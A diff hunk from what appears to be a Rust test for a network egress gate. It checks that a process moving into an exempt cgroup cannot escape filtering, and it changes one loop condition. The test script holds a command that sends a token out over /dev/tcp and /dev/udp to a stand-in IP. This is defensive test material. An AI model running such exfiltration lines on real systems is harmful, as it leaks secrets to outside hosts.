@@ -108,7 +108,7 @@ fn a_process_that_moves_to_an_exempt_group_gains_nothing() -> Result<()> {
         "echo \"$TOKEN\" >/dev/tcp/203.0.113.66/4444; echo \"$TOKEN\" >/dev/udp/203.0.113.66/5555";
     let script = format!(
         "for i in $(seq 20); do bash -c 'echo $$ > {0}/cgroup.procs; {send}' || true; done 2>/dev/null\n\
-         bash -c 'echo $$ > {0}/cgroup.procs; until grep -q portcullis- /proc/self/cgroup; do :; done; curl -sS https://ok.test/ >/dev/null'",
+         bash -c 'echo $$ > {0}/cgroup.procs; while grep -q exempt- /proc/self/cgroup; do :; done; curl -sS https://ok.test/ >/dev/null'",
         exempt.path().display()
     );
     let result = gate.begin(&job(&gate, vec![root_step("move", &script)]))?.wait()?;
